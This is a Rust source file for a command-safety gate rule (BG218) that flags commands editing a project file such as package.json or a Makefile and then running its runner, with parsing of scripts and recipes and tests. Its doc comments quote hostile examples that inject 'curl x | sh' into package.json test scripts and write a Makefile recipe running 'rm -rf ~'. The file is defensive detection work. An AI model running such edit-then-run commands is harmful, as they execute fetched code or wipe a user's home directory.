//! BG218: a project file edited earlier in the command and then executed by a
//! runner later in it (`sed -i ... package.json && npm test`, `echo ... > Makefile;
//! make`). The program catalogue says which files each runner executes
//! (`runs_files`); the written text is judged when the gate knows it (package.json
//! scripts and Makefile recipes are shell text), and the command asks when not.

use crate::catalogue::{Entry, Fact, Role};
use crate::declare_rule;
use crate::model::command::SimpleCommand;
use crate::rules::invocation::{any_entry, module_program};
use crate::rules::written_files::WrittenFile;
use crate::rules::{CHECKS, Checker};
use crate::verdict::{Decision, Finding};
use std::path::Path;

declare_rule! {
    /// ## What it does
    /// Asks when a command writes or edits a file that a runner later in the same
    /// command executes: `package.json` then `npm run`/`npm test`/`npm install`
    /// (and pnpm, yarn); `Makefile`/`*.mk` then `make`; `build.rs`, `Cargo.toml`,
    /// `.cargo/config.toml` then `cargo build|test|run`; `conftest.py`, `setup.py`,
    /// `pyproject.toml` then `pytest`/`pip install`; `Rakefile`, `Gemfile`, gradle
    /// files, `justfile`, `Taskfile.yml`, `build.sbt`, `deno.json`, `shell.nix`,
    /// `bunfig.toml` then their runners; `*.tf` then `terraform` (a `data
    /// "external"` source runs its program at `plan`); a compose file then `docker
    /// compose`. Any write counts:
    /// redirects, `tee`, `cp`/`mv` destinations, `sed -i`, `perl -pi`, and a
    /// program that writes the files its input names (`tar -x`, `unzip`, `patch`,
    /// `git apply`: the catalogue's `writes-input-names`), which may be any of them.
    ///
    /// When the whole text written is known and is shell text the gate can read — a
    /// package.json's `scripts`, a Makefile's recipes — that text is judged like the
    /// command itself instead: findings in it are reported on the write, and a
    /// harmless script passes.
    ///
    /// ## Why
    /// Editing a project file and running its runner is running code written in the
    /// same command, one step removed: `sed -i 's/"test": ".*"/"test": "curl x|sh"/'
    /// package.json && npm test` runs whatever the edit put there, which no other
    /// rule sees.
    ///
    /// ## Example
    /// - `sed -i 's/jest/curl x | sh/' package.json && npm test` → ask
    /// - `npm test` → allow
    /// - `printf 'all:\n\trm -rf ~\n' > Makefile; make` → deny (the recipe is known)
    /// - `sed -i 's/a/b/' Makefile; make` → ask
    /// - `echo '{"scripts":{"test":"jest"}}' > package.json && npm test` → allow
    /// - `tar -xzf vendor.tgz && make` → ask
    /// - `tar -czf out.tgz src && make` → allow
    pub static RUNNER_FILE_EDITED = {
        code: "BG218",
        name: "runner-file-edited",
        default: Ask,
        capability: InlineScript,
        summary: "edits a project file, then runs the runner that executes it (package.json, Makefile, build.rs...)",
    };
}

/// True when `path` is one of the runner's `runs_files`: a name (`Makefile`)
/// is matched against the basename; a name with one `*` (`*.mk`, `test_*.py`,
/// `*_test.go`) is a pattern the basename matches with anything in place of
/// the star, as test runners find the files they run; a path with `/`
/// (`.cargo/config.toml`, `tests/*.rs`) is matched against the path's last
/// components, each the same way.
pub fn runs_file(patterns: &[&str], path: &Path) -> bool {
    let names: Vec<_> = path
        .components()
        .rev()
        .map(|c| c.as_os_str().to_string_lossy())
        .collect();
    patterns.iter().any(|pattern| {
        let parts: Vec<&str> = pattern.rsplit('/').collect();
        parts.len() <= names.len()
            && parts
                .iter()
                .zip(&names)
                .all(|(part, name)| name_matches(part, name))
    })
}

/// True when `name` is `pattern`, or matches it with anything non-empty in
/// place of its one `*`.
fn name_matches(pattern: &str, name: &str) -> bool {
    match pattern.split_once('*') {
        Some((head, tail)) => {
            name.len() > head.len() + tail.len() && name.starts_with(head) && name.ends_with(tail)
        }
        None => name == pattern,
    }
}

/// Finds every runner that executes a file written before it.
pub fn check(commands: &[SimpleCommand], cx: &mut Checker) {
    let mut written: Vec<WrittenFile> = Vec::new();
    // A command that wrote the files its input names (`tar -x`, `patch`): any
    // runner after it may run one.
    let mut unnamed: Option<&SimpleCommand> = None;
    for cmd in commands {
        // Read as a runner only when something before it was written.
        let run = if unnamed.is_some() || !written.is_empty() {
            runner(cmd, cx)
        } else {
            None
        };
        if let Some(writer) = unnamed
            && let Some((_, runner)) = &run
        {
            unnamed = None;
            let name = writer.program_str().unwrap_or("?");
            cx.report(
                &RUNNER_FILE_EDITED,
                writer.span,
                format!(
                    "`{name}` writes the files its input names, and `{runner}` (at byte {}) then runs the project's files: which it wrote is only known at run time",
                    cmd.span.start
                ),
            );
        }
        if unnamed.is_none() && writes_input_names(cmd, cx) {
            unnamed = Some(cmd);
        }
        if !written.is_empty()
            && let Some((patterns, runner)) = &run
        {
            // Each written file is judged once, by the first runner that runs it:
            // one finding decides, and judging it again for every later runner
            // would make the work grow with runners times text.
            let (hits, rest): (Vec<WrittenFile>, Vec<WrittenFile>) =
                written.drain(..).partition(|f| {
                    runs_file(patterns, &f.path)
                        || f.real.as_deref().is_some_and(|r| runs_file(patterns, r))
                });
            written = rest;
            for file in &hits {
                judge(file, runner, cmd, cx);
            }
        }
        for file in cx.written_files(cmd).iter() {
            written.retain(|f| f.path != file.path);
            written.push(file.clone());
        }
    }
}

/// True when `cmd` writes the files its input names (`tar -x`, `git apply`) and
/// no read-only flag says otherwise; the entry's masks first, most programs
/// having no such fact.
fn writes_input_names(cmd: &SimpleCommand, cx: &Checker) -> bool {
    let Some(entry) = cx.entry(cmd) else {
        return false;
    };
    entry.use_may_have(Fact::WritesInputNames)
        && cx
            .usage(cmd)
            .is_some_and(|u| u.has(Fact::WritesInputNames) && !u.has(Fact::ReadOnly))
}

/// The files `cmd` runs as a runner (its entry's or subcommand's `runs_files`),
/// and how to name the runner: `npm test`, or `python3 -m pytest` for a runner
/// an interpreter runs as a module. `None` when it runs no such file.
fn runner(cmd: &SimpleCommand, cx: &Checker) -> Option<(&'static [&'static str], String)> {
    let entry = cx.entry(cmd)?;
    if any_entry(entry, &|e: &Entry| !e.runs_files.is_empty()) {
        let inv = cx.invocation(cmd)?;
        let patterns = inv.runs_files();
        let name = std::iter::once(inv.program)
            .chain(inv.subcommands.iter().copied())
            .collect::<Vec<_>>()
            .join(" ");
        return (!patterns.is_empty()).then_some((patterns, name));
    }
    if !entry.mentions(&[Role::Module]) {
        return None;
    }
    let (module, _) = module_program(cmd.args(), &cx.args(cmd))?;
    let patterns = module.runs_files;
    let name = format!("{} -m {}", entry.name, module.name);
    (!patterns.is_empty()).then_some((patterns, name))
}

/// Judges one written file run by `runner`.
fn judge(file: &WrittenFile, runner: &str, cmd: &SimpleCommand, cx: &mut Checker) {
    let name = file
        .path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    let whole_text = file.text.as_deref().filter(|_| !file.append);
    let scripts = whole_text.and_then(|t| shell_parts(&name, t));
    let Some(scripts) = scripts else {
        let why = if whole_text.is_some() {
            "its code is not shell text the gate reads"
        } else {
            "what the edit put there is only known at run time"
        };
        cx.report(
            &RUNNER_FILE_EDITED,
            file.span,
            format!(
                "{name} is written here and then run by `{runner}` (at byte {}): {why}",
                cmd.span.start
            ),
        );
        return;
    };
    let mut inner = Vec::new();
    for script in &scripts {
        inner.extend(judge_script(script, cx));
    }
    if let Some(worst) = inner.iter().max_by_key(|f| f.decision) {
        let decision = worst.decision.max(Decision::Ask);
        let rules: Vec<&str> = inner.iter().map(|f| f.rule).collect();
        let mut finding = crate::rules::finding(
            &RUNNER_FILE_EDITED,
            file.span,
            cx.source,
            format!(
                "{name} is written here and then run by `{runner}`; its scripts trigger {}: {}",
                rules.join(", "),
                worst.message
            ),
        );
        finding.decision = decision;
        cx.findings.push(finding);
    }
}

/// The shell text in a runner file's known content: package.json `scripts` values,
/// Makefile recipe lines, the commands of a Go file's `//go:generate` lines. `None` when the file is code of another language, or
/// has constructs whose effect is not plain shell text (make functions and
/// variables, includes).
pub fn shell_parts(name: &str, text: &str) -> Option<Vec<String>> {
    if name == "package.json" {
        let value: serde_json::Value = serde_json::from_str(text).ok()?;
        let Some(scripts) = value.get("scripts") else {
            return Some(Vec::new());
        };
        let scripts = scripts.as_object()?;
        return scripts
            .values()
            .map(|v| v.as_str().map(str::to_string))
            .collect();
    }
    if name.ends_with(".go") {
        // `go generate` runs each `//go:generate` line's words as a command.
        return Some(
            text.lines()
                .filter_map(|line| line.strip_prefix("//go:generate "))
                .map(str::to_string)
                .collect(),
        );
    }
    let makefile = matches!(name, "Makefile" | "makefile" | "GNUmakefile") || name.ends_with(".mk");
    if !makefile {
        return None;
    }
    let mut recipes = Vec::new();
    for line in text.lines() {
        if let Some(recipe) = line.strip_prefix('\t') {
            if recipe.contains("$(") || recipe.contains("${") {
                // A make expansion: its value is make's, not the text's.
                return None;
            }
            let recipe = recipe
                .trim_start_matches(['@', '-', '+'])
                .replace("$$", "$");
            recipes.push(recipe);
            continue;
        }
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        // A rule line `target: prerequisites`, nothing else (assignments, include,
        // SHELL, define, functions change what runs). After a `;` the rest of the
        // line is the rule's first recipe line (`all: ; rm -rf x`).
        let (head, recipe) = match trimmed.split_once(';') {
            Some((head, recipe)) if head.contains(':') => (head, Some(recipe)),
            _ => (trimmed, None),
        };
        let special = head.starts_with('.') && !head.starts_with(".PHONY");
        let rule = head.contains(':') && !head.contains('=') && !head.contains('$') && !special;
        if !rule {
            return None;
        }
        if let Some(recipe) = recipe {
            if recipe.contains("$(") || recipe.contains("${") {
                return None;
            }
            recipes.push(
                recipe
                    .trim_start()
                    .trim_start_matches(['@', '-', '+'])
                    .replace("$$", "$"),
            );
        }
    }
    Some(recipes)
}

/// The findings the gate's checks give `script`, run where the command runs.
fn judge_script(script: &str, cx: &Checker) -> Vec<Finding> {
    let env = crate::model::Env {
        cwd: cx.paths.root(),
        resolver: cx.paths.resolver(),
        max_nesting: cx.policy.max_nesting,
        fast_path: true,
    };
    let model = crate::model::build(script, &env);
    let findings = model
        .problems
        .iter()
        .map(|p| crate::rules::input::problem_finding(p, script))
        .collect();
    let mut inner = Checker::new(
        cx.policy,
        cx.paths,
        cx.paths.root(),
        script,
        findings,
        &model.commands,
    );
    for cmd in &model.commands {
        for check in CHECKS {
            check(cmd, &mut inner);
        }
    }
    inner.findings
}

#[cfg(test)]
mod tests {
    use super::runs_file;
    use std::path::Path;

    #[test]
    fn patterns_match_names_stars_and_path_tails() {
        let runs = |pattern: &str, path: &str| runs_file(&[pattern], Path::new(path));
        assert!(runs("Makefile", "/p/Makefile"));
        assert!(!runs("Makefile", "/p/Makefile.bak"));
        assert!(runs("*.mk", "/p/rules.mk"));
        assert!(
            !runs("*.mk", "/p/.mk"),
            "the star stands for at least one byte"
        );
        assert!(runs("*.go", "/p/cmd/gen.go"));
        assert!(runs("test_*.py", "/p/tests/test_api.py"));
        assert!(!runs("test_*.py", "/p/tests/api_test.txt"));
        assert!(runs(".cargo/config.toml", "/p/.cargo/config.toml"));
        assert!(!runs(".cargo/config.toml", "/p/config.toml"));
        assert!(runs("__tests__/*.js", "/p/src/__tests__/a.js"));
        assert!(!runs("__tests__/*.js", "/p/src/a.js"));
        assert!(!runs("a/b/c", "/c"), "a pattern longer than the path");
    }
}
